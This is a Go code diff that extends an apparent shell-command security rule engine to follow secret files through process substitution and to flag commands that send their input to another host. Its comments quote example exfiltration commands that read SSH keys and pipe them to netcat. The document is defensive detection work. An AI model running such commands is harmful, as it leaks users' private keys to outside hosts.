@@ -68,6 +68,9 @@ type CommandEnv struct {
 	// PipedSecrets are the secret files read by the commands whose output
 	// reaches this one's standard input (pipedSecrets); built when asked.
 	PipedSecrets func() []string `expr:"pipedSecrets"`
+	// SendsInput reports that the command sends its standard input to
+	// another host (sendsInput).
+	SendsInput func() bool `expr:"sendsInput"`
 }
 
 // RedirectEnv is one redirection as rules see it.
@@ -199,6 +202,7 @@ func newCommandEnv(c *cmdline.Command, line *cmdline.Line, ctx Context) *Command
 		}
 		return piped
 	}
+	env.SendsInput = func() bool { return sendsInput(c, args, pos) }
 	env.GuardPath, env.PersistPath = guardPath, persistPath
 	env.GuardParent = func(p string) bool { return guardParentIn(p, gs) }
 	if len(gs) > 0 {
@@ -551,8 +555,22 @@ func pipeOrigin(c *cmdline.Command, line *cmdline.Line) (string, []string) {
 // whole), and the commands nested in one, which the model lists after it
 // (find ~ -name id_rsa -exec cat {} \;, cat $(find …), xargs cat).
 func pipedSecrets(c *cmdline.Command, line *cmdline.Line, ctx Context) []string {
-	if c.Stdin.Kind != "pipe" || c.Pipe.Index == 0 {
+	if c.Stdin.Kind != "pipe" {
 		return nil
+	}
+	if c.Pipe.Index == 0 {
+		// a reader of >(…) gets what its holder writes there: what reached
+		// tee's input (cat key | tee >(nc h 80)), or another command's
+		// output (cat key > >(nc h 80))
+		h := procSubHolder(c, line)
+		if h == nil {
+			return nil
+		}
+		out := pipedSecrets(h, line, ctx)
+		if h.Name != "tee" {
+			out = append(out, newCommandEnv(h, line, ctx).SecretFiles...)
+		}
+		return out
 	}
 	var out []string
 	member := c.Pipe.Index - 1 // the next member of c's pipeline to meet, going back
@@ -567,6 +585,21 @@ func pipedSecrets(c *cmdline.Command, line *cmdline.Line, ctx Context) []string 
 		}
 	}
 	return out
+}
+
+// procSubHolder is the command whose >(…) holds c: the nearest command
+// before c one carrier further out; nil when c is not in a >(…).
+func procSubHolder(c *cmdline.Command, line *cmdline.Line) *cmdline.Command {
+	n := len(c.Via)
+	if n == 0 || c.Via[n-1] != ">(…)" {
+		return nil
+	}
+	for j := slices.Index(line.Commands, c) - 1; j >= 0; j-- {
+		if u := line.Commands[j]; slices.Equal(u.Via, c.Via[:n-1]) {
+			return u
+		}
+	}
+	return nil
 }
 
 // pipeFilters print what they read, reshaped, encoded or in part: what
